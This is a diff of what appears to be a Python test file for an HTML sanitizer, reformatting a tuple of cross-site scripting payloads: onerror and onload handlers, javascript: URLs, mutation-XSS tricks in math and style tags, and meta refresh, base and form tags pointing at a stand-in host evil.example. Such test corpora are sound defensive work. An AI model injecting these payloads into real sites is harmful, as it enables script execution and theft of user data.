@@ -17,14 +17,20 @@ BODIES = (
     f"<img src=x:x onerror\n=\n'{RUN}'>",
     '<img src="https://evil.example/pixel.gif">',
     '<img srcset="https://evil.example/1x.gif 1x" src="">',
-    '<picture><source srcset="https://evil.example/p.gif"><img src="https://evil.example/q.gif"></picture>',
+    (
+        '<picture><source srcset="https://evil.example/p.gif">'
+        '<img src="https://evil.example/q.gif"></picture>'
+    ),
     f"<svg onload={RUN}>",
     f"<svg/onload={RUN}//",
     f"<svg><script>{RUN}</script></svg>",
     f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
     f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">go</text></a></svg>',
     f"<svg><style><img src=x onerror={RUN}></style></svg>",
-    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+    (
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
+    ),
     f'<math href="javascript:{RUN}">go</math>',
     f"<iframe src=javascript:{RUN}></iframe>",
     f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
@@ -50,7 +56,10 @@ BODIES = (
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
     '<base href="https://evil.example/">',
-    f'<form action="https://evil.example/post"><input name=q><button formaction="javascript:{RUN}">go</button></form>',
+    (
+        '<form action="https://evil.example/post"><input name=q>'
+        f'<button formaction="javascript:{RUN}">go</button></form>'
+    ),
     f'<a href="javascript:{RUN}" id="pw">go</a>',
     f'<a href="JaVaScRiPt:{RUN}">go</a>',
     f'<a href=" &#14; javascript:{RUN}">go</a>',
